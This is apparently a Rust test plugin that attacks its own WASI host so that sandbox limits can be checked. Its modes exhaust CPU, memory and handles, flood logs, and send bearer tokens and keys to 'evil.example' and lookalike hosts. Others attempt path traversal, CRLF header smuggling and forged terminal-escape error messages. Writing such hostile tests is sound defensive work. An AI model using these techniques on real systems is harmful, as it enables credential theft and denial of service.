//! The plugin's attacks before it reads its page, one function for each kind.

use waki::bindings::wasi::clocks::monotonic_clock;
use waki::bindings::wasi::http::types::{Fields, Method, OutgoingRequest};
use waki::bindings::wasi::io::poll as wasi_poll;
use waki::{Client, RequestBuilder};

use super::{FORGED, told, wide};
use crate::contract::collector::source::{credentials, log};
use crate::contract::*;
use crate::mode::Mode;
use crate::{Settings, failure, read};

/// Carries out the attack of the mode; most modes have none here.
pub fn before_poll(settings: &Settings, token: &str) -> Result<(), Failure> {
    let bearer = format!("Bearer {token}");
    spend(settings);
    fill(settings)?;
    log_much(settings);
    repeat(settings, &bearer)?;
    stray(settings, &bearer)?;
    carry(settings, token, &bearer)?;
    fail(settings)
}

/// Spends time, memory, the stack or handles.
fn spend(settings: &Settings) {
    let amount = settings.amount;
    match settings.mode {
        Mode::Loop => loop {
            std::hint::black_box(());
        },
        // Each step is a thousand turns: the largest number of single turns takes a fast machine a second.
        Mode::Rounds => (0..amount).for_each(|_| {
            (0..1_000).for_each(|turn| {
                std::hint::black_box(turn);
            });
        }),
        Mode::Levels => drop(std::hint::black_box(deep(amount))),
        Mode::Trap => panic!("on purpose"),
        Mode::Memory => {
            let held = vec![1_u8; amount << 20];
            std::hint::black_box(held);
        }
        Mode::Wait | Mode::PagesSlow => monotonic_clock::subscribe_duration((amount as u64) * 1_000_000).block(),
        Mode::Pollables => {
            let ready = monotonic_clock::subscribe_duration(0);
            drop(wasi_poll::poll(&vec![&ready; amount]));
        }
        Mode::Handles => (0..amount).for_each(|_| std::mem::forget(Fields::new())),
        _ => {}
    }
}

/// Fills bodies and headers, which the host holds.
fn fill(settings: &Settings) -> Result<(), Failure> {
    let amount = settings.amount;
    match settings.mode {
        Mode::Zeroes => {
            let request = OutgoingRequest::new(Fields::new());
            let body = request.body().map_err(|()| told("no body"))?;
            let stream = body.write().map_err(|()| told("no stream"))?;
            stream.write_zeroes(amount as u64).map_err(|error| told(&format!("{error:?}")))?;
        }
        Mode::Fields => {
            let fields = Fields::new();
            for index in 0..amount {
                fields
                    .append(&format!("x-{index}"), &vec![b'x'; 1_024])
                    .map_err(|error| told(&format!("{error:?}")))?;
            }
        }
        _ => {}
    }
    Ok(())
}

/// Floods the log.
fn log_much(settings: &Settings) {
    let amount = settings.amount;
    match settings.mode {
        Mode::LogLines => (0..amount).for_each(|index| log::write(log::Level::Info, &format!("line {index}"))),
        Mode::LogBytes => log::write(log::Level::Info, &wide("", amount)),
        Mode::LogEscapes => {
            ["\\", "%", "&", "+"].iter().for_each(|escape| log::write(log::Level::Info, &escape.repeat(amount)))
        }
        _ => {}
    }
}

/// A request that the plan allows.
fn allowed(origin: &str, bearer: &str) -> RequestBuilder {
    Client::new().get(&format!("{origin}/data/1")).header("authorization", bearer)
}

/// Sends one request again and again.
fn repeat(settings: &Settings, bearer: &str) -> Result<(), Failure> {
    let (amount, origin) = (settings.amount, &settings.origin);
    match settings.mode {
        Mode::Requests => {
            for _ in 0..amount {
                read(allowed(origin, bearer))?;
            }
        }
        Mode::RequestsInVain => {
            for _ in 0..amount {
                let _ = read(allowed(origin, bearer));
            }
        }
        Mode::RequestsDenied => {
            for _ in 0..amount {
                let _ = read(Client::new().get("https://evil.example/"));
            }
        }
        _ => {}
    }
    Ok(())
}

/// Sends a request to an address, or by a method, that the plan does not declare.
fn stray(settings: &Settings, bearer: &str) -> Result<(), Failure> {
    let (amount, origin) = (settings.amount, &settings.origin);
    match settings.mode {
        Mode::HostDenied => drop(read(Client::new().get("https://evil.example/").header("authorization", bearer))?),
        Mode::HostLookalike => {
            drop(read(Client::new().get(&format!("{origin}.evil.example/data/1")).header("authorization", bearer))?);
        }
        Mode::HostUserName => {
            let address = origin.replace("https://", "https://api.example@evil.example#");
            drop(read(Client::new().get(&format!("{address}/data/1")).header("authorization", bearer))?);
        }
        Mode::PathAbove => {
            drop(read(Client::new().get(&format!("{origin}/data/../admin")).header("authorization", bearer))?);
        }
        Mode::Method => drop(read(Client::new().put(&format!("{origin}/data/1")).header("authorization", bearer))?),
        Mode::AddressBytes => {
            let address = wide(&format!("{origin}/data/"), amount);
            drop(read(Client::new().get(&address).header("authorization", bearer))?);
        }
        _ => {}
    }
    Ok(())
}

/// Sends a request with a credential or a header at a place where it is not allowed.
fn carry(settings: &Settings, token: &str, bearer: &str) -> Result<(), Failure> {
    let origin = &settings.origin;
    match settings.mode {
        Mode::PlaceholderOfAnother => {
            let other = "Bearer sealed-00000000000000000000000000000000";
            drop(read(Client::new().get(&format!("{origin}/data/1")).header("authorization", other))?);
        }
        Mode::TokenInQuery => {
            let request = Client::new().get(&format!("{origin}/data/1?copy={token}"));
            drop(read(request.header("authorization", bearer))?);
        }
        Mode::KeyInHeader => {
            let request = allowed(origin, bearer);
            drop(read(request.header("x-key", settings.key.as_str()))?);
        }
        Mode::DataToTokenEndpoint => {
            let request = Client::new().post(&format!("{origin}/token"));
            let form = request.header("content-type", "application/x-www-form-urlencoded");
            drop(read(form.body(format!("key={}&stolen=a+page+of+a+tenant", settings.key).into_bytes()))?);
        }
        Mode::CharsetAsked => {
            let request = allowed(origin, bearer);
            let request = request.header("accept", "application/json; Charset=\"UTF-16\", text/plain;x=utf-7");
            drop(read(request.header("accept-charset", "utf-16, utf-7"))?);
        }
        Mode::ApiKeyOwn => {
            let request = allowed(origin, bearer);
            drop(read(request.header("x-api-key", "key-of-an-evil-account"))?);
        }
        Mode::HeaderOwn => {
            let request = allowed(origin, bearer);
            drop(read(request.header("x-anything", "key-of-an-evil-account"))?);
        }
        Mode::AnonymousOwn => drop(read(Client::new().get(&format!("{origin}/hooks/of-an-evil-account?a=stolen")))?),
        Mode::ParameterOwn => {
            let request = Client::new().get(&format!("{origin}/data/1?a=1;access_token[]=of-an-evil-account"));
            drop(read(request.header("authorization", bearer))?);
        }
        Mode::SegmentOwn => {
            let request = Client::new().get(&format!("{origin}/data/1;jsessionid=of-an-evil-account"));
            drop(read(request.header("authorization", bearer))?);
        }
        Mode::CompressedEcho => {
            let request = allowed(origin, bearer);
            drop(read(request.header("accept-encoding", "br, gzip").header("te", "gzip"))?);
        }
        _ => {}
    }
    Ok(())
}

/// Fails with untrue words or an untrue reaction, or because the host refused something.
fn fail(settings: &Settings) -> Result<(), Failure> {
    let amount = settings.amount;
    match settings.mode {
        Mode::Assertion => {
            if let Err(refusal) = credentials::client_assertion("key", "client", "audience") {
                return Err(told(&format!("{refusal:?}")));
            }
        }
        Mode::ScopesFailing => {
            let words = "\\".repeat(4_000);
            let fix = Some(words.clone());
            return Err(Failure { fix, ..failure(Reaction::FixScope, "forbidden", &words) });
        }
        Mode::WaitUnasked => {
            let _ = read(Client::new().get("https://evil.example/"));
            return Err(Failure {
                wait_seconds: Some(86_400),
                ..failure(Reaction::Wait, "throttled", "a day, please")
            });
        }
        Mode::RequestWords => return Err(told(&hoarded(amount))),
        Mode::Headers => return Err(told(&smuggled())),
        Mode::WordsForged => {
            log::write(log::Level::Warn, FORGED);
            return Err(failure(Reaction::FixPlugin, FORGED, FORGED));
        }
        Mode::WordsOdd => return Err(told("red\u{1b}[31m\nerror: feed good: it is broken\u{202e}")),
        _ => {}
    }
    Ok(())
}

/// Makes requests that are never sent, with words of this many bytes, and returns those that the host keeps.
fn hoarded(bytes: usize) -> String {
    let kept = (0..100).filter(|index| {
        let request = OutgoingRequest::new(Fields::new());
        let kept = match index % 2 {
            0 => request.set_method(&Method::Other("X".repeat(bytes))),
            _ => request.set_authority(Some(&"x".repeat(bytes))),
        };
        std::mem::forget(request);
        kept.is_ok()
    });
    format!("{} of 100 were kept", kept.count())
}

/// Sets headers that change the meaning or the target of a request, and returns those that the host accepts.
fn smuggled() -> String {
    let tries: &[(&str, &[u8])] = &[
        ("host", b"evil.example"),
        ("transfer-encoding", b"chunked"),
        ("connection", b"upgrade"),
        ("upgrade", b"h2c"),
        ("proxy-authorization", b"Basic x"),
        ("x-split", b"a\r\nhost: evil.example"),
        ("x-split: a\r\nhost", b"evil.example"),
    ];
    let fields = Fields::new();
    let taken = tries.iter().filter(|(name, value)| fields.append(&(*name).to_owned(), &value.to_vec()).is_ok());
    let taken: Vec<_> = taken.map(|(name, _)| *name).collect();
    format!("{} of {} were taken", taken.len(), tries.len())
}

fn deep(levels: usize) -> usize {
    if levels == 0 { 0 } else { std::hint::black_box(deep(std::hint::black_box(levels - 1)) + 1) }
}
